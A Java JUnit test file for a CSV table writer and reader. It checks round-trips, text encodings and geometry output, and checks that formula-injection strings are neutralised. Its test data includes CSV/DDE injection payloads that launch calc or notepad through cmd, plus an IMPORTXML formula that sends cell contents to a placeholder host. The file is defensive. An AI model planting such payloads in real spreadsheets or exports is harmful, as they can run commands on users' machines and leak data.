package io.carecircle.formats.csv;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.carecircle.formats.Limits;
import io.carecircle.formats.ReadResult;
import io.carecircle.kernel.layer.FeatureTable;
import io.carecircle.kernel.layer.JsonText;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.locationtech.jts.geom.Coordinate;
import org.locationtech.jts.geom.GeometryFactory;
import org.locationtech.jts.io.ParseException;
import org.locationtech.jts.io.WKTReader;

class CsvRoundTripTest {
  /** What a spreadsheet would run, what looks like it, and what must be left alone. */
  private static final List<String> FORMULAS =
      List.of(
          "=1+1",
          "=cmd|'/C calc'!A0",
          "=HYPERLINK(\"http://x.test\",\"点击\")",
          "=IMPORTXML(CONCAT(\"http://x.test?\",A1),\"//a\")",
          "+1+1",
          "+cmd|' /C notepad'!'A1'",
          "-1+1",
          "-2+3+cmd|' /C calc'!D2",
          "--1",
          "- 1",
          "@SUM(1,1)",
          "@",
          "=",
          "\t=1+1",
          "\t1",
          "\r=1+1",
          "\r\n=1+1",
          "＝1+1",
          "＋1+1",
          "－1",
          "＠SUM(1)",
          "'=1+1",
          "''-x",
          "'",
          "'quoted'",
          "+86 577 8888",
          "=\"a\nb\"",
          "-1e5x",
          "=1,2;3\t4",
          "-5%",
          "+.");

  private static byte[] write(FeatureTable table, List<String> columns) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    CsvTableWriter.write(table, columns, out);
    return out.toByteArray();
  }

  private static FeatureTable reread(byte[] bytes) {
    ReadResult result = CsvTableReader.read(bytes, "auto", Limits.DEFAULT);
    assertEquals(List.of(), result.errors());
    return result.table();
  }

  private static FeatureTable oneColumn(String name, List<?> values) {
    FeatureTable.Builder table = FeatureTable.builder();
    for (int i = 0; i < values.size(); i++) {
      table.add("r" + i, null, i + 2, Collections.singletonMap(name, values.get(i)));
    }
    return table.build();
  }

  @Test
  void formulasAreDisarmedAndReadBack() throws IOException {
    byte[] bytes = write(oneColumn("text", FORMULAS), List.of("text"));
    FeatureTable back = reread(bytes);
    for (int i = 0; i < FORMULAS.size(); i++) {
      assertEquals(FORMULAS.get(i), back.value(i, "text"));
    }
    // Without the reader's inverse no cell may start with a character that starts a formula.
    for (String formula : FORMULAS) {
      String cell = FormulaGuard.guard(formula);
      assertTrue("=+-@\t\r＝＋－＠".indexOf(cell.charAt(0)) < 0, cell);
    }
    assertEquals("'\0=1", FormulaGuard.guard("\0=1"));
  }

  @Test
  void plainNumbersAreLeftAlone() throws IOException {
    List<String> numbers = List.of("-5", "+5", "-5.25", "-.5", "+1e5", "-1E-12", "0");
    String csv = new String(write(oneColumn("n", numbers), List.of("n")), StandardCharsets.UTF_8);
    for (int i = 0; i < numbers.size(); i++) {
      assertTrue(csv.contains("r" + i + "," + numbers.get(i) + "\r\n"), csv);
    }
  }

  @Test
  void columnNamesAreDisarmedToo() throws IOException {
    FeatureTable table = oneColumn("=A1", List.of("x"));
    byte[] bytes = write(table, List.of("=A1"));
    assertTrue(new String(bytes, StandardCharsets.UTF_8).contains("id,'=A1\r\n"));
    assertEquals("x", reread(bytes).value(0, "=A1"));
  }

  @Test
  void theBytesAreThoseOfAStandardFile() throws IOException {
    Map<String, Object> values = new LinkedHashMap<>();
    values.put("name", "㙍溪,\"𠮷\"");
    values.put("beds", 12L);
    values.put("area", new BigDecimal("1E+3"));
    values.put("open", Boolean.TRUE);
    values.put("date", LocalDate.of(2025, 12, 31));
    values.put("gates", new JsonText("[1,2]"));
    values.put("none", null);
    FeatureTable table =
        FeatureTable.builder()
            .add(
                "f1",
                new GeometryFactory().createPoint(new Coordinate(120.7, 28.00000004)),
                2,
                values)
            .add("f2", null, 3, Map.of())
            .build();
    String expected =
        "\uFEFFid,name,beds,area,open,date,gates,none,lon,lat\r\n"
            + "f1,\"㙍溪,\"\"𠮷\"\"\",12,1000,true,2025-12-31,\"[1,2]\",,120.7,28\r\n"
            + "f2,,,,,,,,,\r\n";
    byte[] bytes = write(table, table.columnNames());
    assertEquals(expected, new String(bytes, StandardCharsets.UTF_8));
    assertArrayEquals(bytes, write(table, table.columnNames()));
    assertEquals("28", reread(bytes).value(0, "lat"));
  }

  @Test
  void otherGeometriesAreWkt() throws IOException, ParseException {
    FeatureTable table =
        FeatureTable.builder()
            .add("a", new WKTReader().read("POINT (120.7 28)"), 1, Map.of())
            .add("b", new WKTReader().read("LINESTRING (120.123456789 28, 121 29)"), 2, Map.of())
            .build();
    FeatureTable back = reread(write(table, List.of()));
    assertEquals(List.of("id", "wkt"), back.columnNames());
    assertEquals("LINESTRING (120.123456789 28, 121 29)", back.value(1, "wkt"));
  }

  @Test
  void namesThatTheWriterNeedsAreMovedAside() throws IOException {
    FeatureTable table = FeatureTable.builder().add("a", null, 1, Map.of("id", "other")).build();
    assertEquals("other", reread(write(table, List.of("id"))).value(0, "properties.id"));
    FeatureTable same = FeatureTable.builder().add("7", null, 1, Map.of("id", 7L)).build();
    assertEquals(List.of("id"), reread(write(same, List.of("id"))).columnNames());
    assertThrows(IllegalArgumentException.class, () -> write(same, List.of("x", "x")));
  }

  /** T15: four encodings of one table, rare characters, mixed line ends. */
  @Test
  void everyEncodingGivesTheSameTable() {
    String text = "编号,名称\r\n1,㙍溪\n2,\"𠮷\r\n祥\"\r3,普通\r\n";
    Charset gb = Charset.forName("GB18030");
    List<byte[]> files =
        List.of(
            text.getBytes(StandardCharsets.UTF_8),
            ("\uFEFF" + text).getBytes(StandardCharsets.UTF_8),
            text.getBytes(gb),
            ("\uFEFF" + text).getBytes(StandardCharsets.UTF_16LE));
    for (byte[] file : files) {
      FeatureTable table = reread(file);
      assertEquals(List.of("编号", "名称"), table.columnNames());
      assertEquals("㙍溪", table.value(0, "名称"));
      assertEquals("普通", table.value(2, "名称"));
      assertTrue(table.value(1, "名称").toString().startsWith("𠮷"));
      assertEquals(
          List.of(2, 3, 5),
          Arrays.asList(table.sourceRow(0), table.sourceRow(1), table.sourceRow(2)));
    }
  }
}
